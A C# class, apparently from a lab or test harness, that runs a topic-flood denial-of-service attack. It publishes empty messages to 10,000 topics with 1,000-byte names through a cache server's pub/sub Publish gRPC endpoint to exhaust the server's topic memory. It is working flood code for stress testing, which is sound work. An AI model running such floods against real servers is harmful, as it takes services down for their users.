using System.Text;

namespace Larder.Lab.Peers.Attacks;

/// <summary>Publishes an empty message to one topic after another. The names of the topics fill the memory for topics.</summary>
internal sealed class TopicFloodAttack : UnaryFloodAttack
{
    // The server keeps 10,000 topics per cache.
    private const int Topics = 10_000;
    private const int NameBytes = 1_000;

    /// <inheritdoc/>
    public override string Name => "topics";

    /// <inheritdoc/>
    public override string Description => $"Publish of an empty message to {Topics:N0} topics with names of {NameBytes:N0} bytes";

    /// <inheritdoc/>
    public override string Path(int number) => "/cache_client.pubsub.Pubsub/Publish";

    /// <inheritdoc/>
    public override byte[] Request(int number) =>
    [
        .. ProtoBytes.Bytes(1, "attacked"u8),
        .. ProtoBytes.Bytes(2, Encoding.ASCII.GetBytes($"{number % Topics}".PadLeft(NameBytes, 't'))),
        .. ProtoBytes.Bytes(3, ProtoBytes.Bytes(2)),
    ];
}
